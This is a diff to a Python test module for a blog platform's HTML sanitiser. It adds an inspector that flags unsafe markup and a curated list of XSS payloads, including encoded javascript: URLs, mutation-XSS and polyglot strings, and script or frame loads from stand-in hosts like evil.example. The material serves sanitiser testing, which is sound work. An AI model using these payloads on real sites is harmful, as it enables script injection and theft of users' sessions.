@@ -1,15 +1,321 @@
-"""The HTML allow-list for text blocks (nh3): what it keeps, what it removes, and that no
-payload of the project's XSS list or of the shared corpus survives it."""
+"""The HTML allow-list for text blocks (nh3), and the project's own XSS list.
+
+This module holds what the XSS suites share: the `Inspector` that finds unsafe markup in a
+page or fragment, the curated payloads for every class of ../shared/corpus/xss.index.tsv,
+and the reader of the shared corpus. Here every payload goes through the sanitiser alone;
+test_xss.py sends them through the API to every surface a reader sees.
+"""
 
 from __future__ import annotations
 
+import json
+import re
 from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 
 from bulletin.render.sanitize import TAGS, sanitize_html
-from tests.render.test_xss import CATEGORIES, CURATED, find_unsafe, read_corpus
+
+# ---------------------------------------------------------------------------------------
+# The inspector: what must never appear in what Bulletin serves
+# ---------------------------------------------------------------------------------------
+
+FORBIDDEN_ELEMENTS = frozenset({
+    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg",
+    "math", "style", "form", "isindex", "template", "noscript", "xmp", "listing", "plaintext",
+    "noembed", "textarea", "select", "input", "keygen", "portal", "param",
+})
+URL_ATTRIBUTES = frozenset({
+    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
+    "dynsrc", "lowsrc", "codebase", "cite", "longdesc", "usemap", "ping", "manifest", "icon",
+    "archive", "profile", "classid", "folder", "to", "values", "from", "by", "srcset",
+})
+SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
+PAGE_LINK_RELS = frozenset({"canonical", "alternate", "icon", "manifest"})
+# Judged strictly: every blank and control character removed (browsers drop some of them
+# around and inside a scheme, older ones more), then entity-decoded by the parser.
+_IGNORED_IN_SCHEME = re.compile(
+    "[\x00-\x20\x7f-\x9f\u00a0\u1680\u180e\u2000-\u200f\u2028-\u202f\u205f-\u206f\u3000\ufeff]")
+_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
+
+
+def url_scheme(value: str) -> str | None:
+    """The scheme a browser would see in an (already entity-decoded) attribute value."""
+    match = _SCHEME.match(_IGNORED_IN_SCHEME.sub("", value).lower())
+    return match.group(1) if match else None
+
+
+def _is_own_static(url: str) -> bool:
+    return url.startswith("/static/") and "//" not in url and "\\" not in url
+
+
+class Inspector(HTMLParser):
+    """Parses a page (`page=True`) or a fragment and lists everything unsafe in it. It also
+    collects every text run and attribute value, to prove that payloads arrived as text."""
+
+    def __init__(self, *, page: bool) -> None:
+        super().__init__(convert_charrefs=True)
+        self.page = page
+        self.problems: list[str] = []
+        self.problem_posts: list[int | None] = []  # the post (article) each problem is in
+        self._articles: list[int | None] = []
+        self.texts: list[str] = []
+        self.attribute_values: list[tuple[str, str, str]] = []
+        self._script: tuple[dict[str, str], list[str]] | None = None
+
+    def problem(self, what: str) -> None:
+        self.problems.append(what)
+        self.problem_posts.append(self._articles[-1] if self._articles else None)
+
+    def problems_in(self, post_id: int | None) -> list[str]:
+        return [p for p, where in zip(self.problems, self.problem_posts, strict=True)
+                if where == post_id]
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        values = {name: value or "" for name, value in attrs}
+        if tag == "article":
+            post_id = values.get("data-id", "")
+            self._articles.append(int(post_id) if post_id.isdigit() else None)
+        if tag == "script":
+            self._script = (values, [])
+        elif tag in FORBIDDEN_ELEMENTS:
+            self.problem(f"<{tag}> element")
+        if tag == "meta" and ("http-equiv" in values or
+                              values.get("charset", "utf-8").lower() != "utf-8"):
+            self.problem(f"<meta {' '.join(values)}>")
+        if tag == "link":  # the page's own links; a stylesheet only from /static/
+            rel, href = values.get("rel", "").lower(), values.get("href", "")
+            if not (self.page and (rel in PAGE_LINK_RELS or
+                                   (rel == "stylesheet" and _is_own_static(href)))):
+                self.problem(f"<link {values}>")
+        for name, value in values.items():
+            self.attribute_values.append((tag, name, value))
+            self._attribute(tag, name, value)
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.handle_starttag(tag, attrs)
+        if tag == "script":
+            self.handle_endtag(tag)
+
+    def _attribute(self, tag: str, name: str, value: str) -> None:
+        if name.startswith("on"):
+            self.problem(f"event handler {name}= on <{tag}>")
+        elif name == "style":
+            self.problem(f"style= on <{tag}>")
+        elif name == "srcdoc":
+            self.problem(f"srcdoc= on <{tag}>")
+        elif name in URL_ATTRIBUTES:
+            candidates = [c.strip().split(" ")[0] for c in value.split(",")] \
+                if name == "srcset" else [value]
+            for url in candidates:
+                scheme = url_scheme(url)
+                if scheme is not None and scheme not in SAFE_SCHEMES:
+                    self.problem(f"{scheme}: URL in {name}= on <{tag}>")
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag == "article" and self._articles:
+            self._articles.pop()
+        if tag != "script" or self._script is None:
+            return
+        attrs, chunks = self._script
+        self._script = None
+        inline = "".join(chunks)
+        src = attrs.get("src", "")
+        if self.page and src and _is_own_static(src) and not inline.strip():
+            return  # the page's own script, e.g. <script src="/static/reader.js">
+        if (self.page and not src and attrs.get("type") == "application/ld+json"
+                and "<" not in inline and _parses_as_json(inline)):
+            return  # structured data: inert, and nothing in it could close the element
+        self.problem(f"<script {attrs}> with {inline[:60]!r}")
+
+    def handle_data(self, data: str) -> None:
+        if self._script is not None:
+            self._script[1].append(data)
+        else:
+            self.texts.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        self.problem(f"comment <!--{data[:40]}-->")
+
+    def handle_pi(self, data: str) -> None:
+        self.problem(f"processing instruction <?{data[:40]}>")
+
+    def unknown_decl(self, data: str) -> None:
+        self.problem(f"declaration <![{data[:40]}>")
+
+    def handle_decl(self, decl: str) -> None:
+        if not (self.page and decl.lower() == "doctype html"):
+            self.problem(f"declaration <!{decl[:40]}>")
+
+
+def _parses_as_json(text: str) -> bool:
+    try:
+        json.loads(text)
+    except ValueError:
+        return False
+    return True
+
+
+def inspect(html: str, *, page: bool) -> Inspector:
+    inspector = Inspector(page=page)
+    inspector.feed(html)
+    inspector.close()
+    if inspector._script is not None:
+        inspector.problem("unterminated <script>")
+    return inspector
+
+
+def find_unsafe(html: str, *, page: bool = False) -> list[str]:
+    """Everything unsafe in `html` (a page, or a fragment such as a post's rendered HTML)."""
+    return inspect(html, page=page).problems
+
+
+# ---------------------------------------------------------------------------------------
+# The project's own list: representative payloads for every class in xss.index.tsv
+# ---------------------------------------------------------------------------------------
+
+CURATED: dict[str, list[str]] = {
+    "script-tag": [
+        "<script>alert(document.domain)</script>",
+        "<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<script/x>alert(1)</script>",
+        "</p><script>fetch('/api/v1/blogs')</script><p>",
+        "<script type=module>import('//evil.example/m.js')</script>",
+        "<p>Storm update<script>document.cookie</script> continues</p>",
+    ],
+    "event-handler": [
+        "<img src=x onerror=alert(1)>",
+        "<p onclick=\"alert(1)\">Tap here</p>",
+        "<a href=\"https://news.example/\" onmouseover=\"alert(1)\">report</a>",
+        "<strong onpointerenter=alert(1)>bold claim</strong>",
+        "<details open ontoggle=alert(1)>",
+        "<body onload=alert(1)>",
+        "<video><source onerror=alert(1)></video>",
+        "<em/onfocus=alert(1)/tabindex=1/autofocus>x</em>",
+    ],
+    "dangerous-url": [
+        "<a href=\"javascript:alert(1)\">click</a>",
+        "<a href=\"JaVaScRiPt:alert(1)\">mixed case</a>",
+        "<a href=\"  javascript:alert(1)\">leading spaces</a>",
+        "<a href=\"vbscript:msgbox(1)\">vb</a>",
+        "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
+        "<a href=\"java\tscript:alert(1)\">tab inside</a>",
+        "<img src=\"javascript:alert(1)\">",
+        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
+    ],
+    "attribute-breakout": [
+        "\"><script>alert(1)</script>",
+        "' onmouseover='alert(1)",
+        "\" autofocus onfocus=\"alert(1)",
+        "\"><img src=x onerror=alert(1)>",
+        "</h2><script>alert(1)</script>",
+        "</title></textarea><script>alert(1)</script>",
+        "<a href=\"https://news.example/\" title=\"x\" onclick=\"alert(1)\">t</a>",
+    ],
+    "css": [
+        "<p style=\"background:url(javascript:alert(1))\">x</p>",
+        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
+        "<div style=\"width:expression(alert(1))\">x</div>",
+        "<style>@import 'https://evil.example/x.css';</style>",
+        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+        "<strong style=\"position:fixed;inset:0\">overlay</strong>",
+    ],
+    "encoded": [
+        "<a href=\"&#106;avascript:alert(1)\">x</a>",
+        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;"
+        "alert(1)\">hex</a>",
+        "<a href=\"javascript&colon;alert(1)\">named colon</a>",
+        "<a href=\"jav&#x09;ascript:alert(1)\">tab entity</a>",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "<a href=\"%6a%61vascript:alert(1)\">percent</a>",
+        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+        "<a href=\"&#0000106&#0000097vascript:alert(1)\">padded</a>",
+    ],
+    "frame-object-base-meta": [
+        "<iframe src=\"https://evil.example/\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<object data=\"https://evil.example/x.swf\"></object>",
+        "<embed src=\"https://evil.example/x.swf\">",
+        "<base href=\"https://evil.example/\">",
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
+        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
+    ],
+    "mutation-xss": [
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<svg><p><style><img src=x onerror=alert(1)></style>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+        "<template><img src=x onerror=alert(1)></template>",
+        "<!--><img src=x onerror=alert(1)>-->",
+        "<p title=\"--><img src=x onerror=alert(1)>\">x</p>",
+        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
+    ],
+    "polyglot": [
+        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/"
+        "</teXtarEa/</scRipt/--!><sVg/oNloAd=alert(1)//>",
+        "'\"--></style></script></title></textarea><img src=x onerror=alert(1)>",
+        "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template>"
+        "</noembed></script><html \" onmouseover=/*&lt;svg/*/onload=alert(1)//>",
+        "\"'><svg/onload=alert(1)><a href=\"javascript:alert(1)\">x</a>",
+    ],
+    "svg-mathml": [
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
+        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
+        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x"
+        "</maction></math>",
+        "<math href=\"javascript:alert(1)\">x</math>",
+        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
+        "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
+    ],
+}
+CATEGORIES = sorted(CURATED)
+
+
+# ---------------------------------------------------------------------------------------
+# The shared corpus
+# ---------------------------------------------------------------------------------------
+
+def corpus_dir(repo_root: Path) -> Path:
+    folder = repo_root.parent / "shared" / "corpus"
+    if not (folder / "xss.txt").is_file() or not (folder / "xss.index.tsv").is_file():
+        pytest.fail(f"The XSS corpus is missing: expected {folder}/xss.txt and xss.index.tsv "
+                    "(CI runs with shared/ beside the repository).", pytrace=False)
+    return folder
+
+
+def read_corpus(repo_root: Path) -> list[tuple[int, str, str, str]]:
+    """(line, category, note, payload) for every line of xss.txt; split on LF only."""
+    folder = corpus_dir(repo_root)
+    lines = (folder / "xss.txt").read_bytes().decode("utf-8").split("\n")
+    if lines[-1] == "":
+        lines.pop()
+    index: dict[int, tuple[str, str]] = {}
+    for row in (folder / "xss.index.tsv").read_text("utf-8").split("\n")[1:]:
+        if row:
+            number, category, _source, note = row.split("\t")
+            index[int(number)] = (category, note)
+    assert len(index) == len(lines), (len(index), len(lines))
+    return [(n, *index[n], payload) for n, payload in enumerate(lines, start=1)]
+
+
+def test_the_corpus_is_read_whole_and_every_class_is_curated(repo_root: Path) -> None:
+    corpus = read_corpus(repo_root)
+    assert len(corpus) == 252
+    assert len({payload for *_, payload in corpus}) == 252
+    assert any(payload.startswith(" ") for *_, payload in corpus)  # nothing was stripped
+    assert any("\t" in payload for *_, payload in corpus)
+    assert {category for _, category, _, _ in corpus} == set(CURATED)
+    assert all(len(payloads) >= 4 for payloads in CURATED.values())
+    assert not any("\n" in p or "\r" in p for ps in CURATED.values() for p in ps)
+
+
+# ---------------------------------------------------------------------------------------
+# The sanitiser
+# ---------------------------------------------------------------------------------------
 
 REL = 'rel="noopener noreferrer nofollow ugc"'
 # nh3 also keeps its generic `lang` and `title` attributes: plain text, never executed.
